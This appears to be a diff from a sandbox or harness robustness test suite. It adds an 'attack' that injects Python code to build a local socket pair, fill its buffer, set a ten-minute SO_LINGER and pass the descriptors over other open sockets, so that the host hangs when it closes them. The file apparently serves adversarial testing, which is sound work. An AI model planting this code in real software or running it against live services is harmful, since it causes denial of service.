@@ -173,3 +173,33 @@ if os.fork() == 0:
         time.sleep(0.05)
     os._exit(0)
 """)
+
+
+@attack(seconds=90)
+def wire_lingering_socket(arena: Arena) -> Outcome:
+    """Hand the host a TCP socket that holds up for minutes whoever closes it last."""
+    return poison(arena, """
+def pair():
+    with socket.create_server(('127.0.0.1', 0)) as listener:
+        one = socket.create_connection(listener.getsockname())
+        return one, listener.accept()[0]
+try:
+    one, other = pair()
+except OSError:
+    print('no sockets')
+else:
+    one.setblocking(False)
+    try:
+        while True: one.send(bytes(1 << 16))
+    except BlockingIOError:
+        pass
+    one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 600))
+    for fd in list(sockets()):
+        try:
+            if fd not in (one.fileno(), other.fileno()):
+                socket.send_fds(socket.socket(fileno=os.dup(fd)), [frame(b'{"t":"nonsense"}')], [one.fileno(), other.fileno()])
+        except OSError:
+            pass
+    one.close(), other.close()
+os._exit(0)
+""")
